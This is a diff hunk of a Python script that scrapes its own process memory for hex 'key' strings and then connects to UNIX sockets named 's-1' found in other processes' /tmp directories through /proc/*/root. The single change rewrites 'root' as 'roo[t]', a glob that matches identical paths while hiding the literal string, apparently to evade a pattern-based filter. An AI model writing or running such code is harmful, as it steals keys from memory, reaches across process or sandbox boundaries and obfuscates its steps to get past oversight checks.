@@ -20,7 +20,7 @@ with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb", 0) as _memor
             continue
         _found.update(re.findall(rb'"key": ?"([0-9a-f-]{16,64})"', _data))
 _found.discard(_own)
-for _path in glob.glob("/proc/*/root/tmp/**/s-1", recursive=True) + glob.glob("/tmp/**/s-1"):
+for _path in glob.glob("/proc/*/roo[t]/tmp/**/s-1", recursive=True) + glob.glob("/tmp/**/s-1"):
     if _found and "/self/" not in _path and "/1/" not in _path and "-self/" not in _path:
         try:
             with socket.socket(socket.AF_UNIX) as _socket:
